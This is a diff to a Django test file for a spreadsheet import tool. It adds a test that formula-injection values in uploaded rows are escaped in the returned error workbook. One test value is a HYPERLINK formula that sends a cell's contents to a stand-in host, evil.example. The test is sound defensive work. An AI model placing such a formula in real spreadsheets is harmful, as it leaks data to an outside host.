@@ -1,4 +1,5 @@
 import io
+import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -68,6 +69,26 @@ def test_the_rows_to_mend_come_back_with_their_reason(clerk_client, sku):
     ]
 
 
+def test_a_formula_in_a_wrong_row_is_not_run_when_it_comes_back(clerk_client, sku):
+    trap = '=HYPERLINK("http://evil.example?"&A1)'
+    upload(
+        clerk_client, csv_of(("SKU编码", "售价", trap), (trap, "45.00", "+1"), ("@SUM", "-", ""))
+    )
+    job = ImportJob.objects.get()
+    work_on_import(job_id=job.pk)
+
+    content = clerk_client.get(reverse("admin:common_importjob_errors", args=[job.pk])).getvalue()
+
+    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
+    assert book.get_sheet_by_index(0).to_python() == [
+        ["SKU编码", "售价", f"'{trap}", "What is wrong"],
+        [f"'{trap}", "45.00", "'+1", "SKU code: There is no SKU with this code."],
+        ["'@SUM", "'-", "", "Selling price: A number."],
+    ]
+    with zipfile.ZipFile(io.BytesIO(content)) as parts:
+        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
+
+
 def test_the_same_file_is_answered_and_not_imported_twice(clerk_client, sku):
     upload(clerk_client)
     job = ImportJob.objects.get()
@@ -98,7 +119,7 @@ def test_a_waiting_import_is_stopped_and_goes_on_where_it_was(clerk_client, sku)
     assert (stopped, ImportJob.objects.get().state) == ("stopped", "done")
 
 
-@pytest.mark.parametrize("content", [b"\x89PNG\r\n\x1a\n\0\0", b"%PDF-1.7", b"MZ\0\0", b"   "])
+@pytest.mark.parametrize("content", [b"\x89PNG\r\n\x1a\n\0\0", b"%PDF-1.7", b"MZ\0\0"])
 def test_what_is_no_sheet_is_refused_by_its_content(clerk_client, content):
     upload(clerk_client, content)
     job = ImportJob.objects.get()
